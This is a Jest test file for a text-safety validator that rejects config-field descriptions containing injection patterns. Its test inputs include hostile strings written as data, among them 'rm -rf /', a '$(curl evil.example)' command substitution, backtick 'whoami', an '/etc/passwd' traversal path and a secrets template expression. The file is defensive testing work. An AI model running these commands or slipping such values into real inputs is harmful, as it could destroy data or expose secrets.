import { unsafeTextProblems } from './safeText';

describe('unsafeTextProblems', () => {
  it('accepts an ordinary description', () => {
    expect(
      unsafeTextProblems(
        'Anomalous card and ACH payments scored in real time, trained on labelled fraud cases.',
      ),
    ).toEqual([]);
  });

  it.each([
    ['line 1\nkind: Group', /single line/],
    ['fraud\u2028model', /single line/],
    ['the ${{ secrets.TOKEN }} model', /template expression/],
    ['a {% include x %} model', /template tag/],
    ['model; rm -rf /', /shell metacharacters \(;\)/],
    ['model $(curl evil.example)', /shell metacharacters \(\$\)/],
    ['uses `whoami` output', /shell metacharacters \(`\)/],
    ['reads ../../etc/passwd', /parent-directory path/],
    ['owner: someone else', /": "/],
    ['model #comment', /" #"/],
    ['- a list item', /must not start with "-"/],
    ['*anchor reference', /must not start with "\*"/],
    [' leading space', /start or end with spaces/],
    ['bell\u0007character', /control characters/],
  ])('rejects %j', (text, message) => {
    expect(unsafeTextProblems(text).join('\n')).toMatch(message);
  });
});
